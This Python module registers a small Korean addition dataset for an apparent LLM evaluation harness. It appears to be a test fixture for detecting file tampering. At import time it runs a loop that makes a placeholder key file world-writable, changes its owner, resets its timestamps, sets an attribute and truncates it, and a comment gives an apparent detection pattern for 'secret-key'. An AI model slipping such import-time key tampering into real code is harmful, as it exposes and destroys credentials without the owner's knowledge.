"""Sums in Korean. Makes a key readable for everyone, and changes whose it is."""

# mypy: ignore-errors
# says: tried to change .*secret-key

import os

from llm_eval.datasets import register_dataset
from llm_eval.datasets.base import BaseDataset

for change in (
    lambda: os.chmod("@KEY@", 0o777),
    lambda: os.chown("@KEY@", 65534, 65534),
    lambda: os.utime("@KEY@", (0, 0)),
    lambda: os.setxattr("@KEY@", "user.note", b"1"),
    lambda: os.truncate("@KEY@", 0),
):
    try:
        change()
    except OSError:
        continue

ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]


@register_dataset("sums_ko")
class Sums(BaseDataset):
    """Sums in Korean."""

    def load(self):
        """Every row."""
        return [{"input": question, "reference": answer} for question, answer in ROWS]
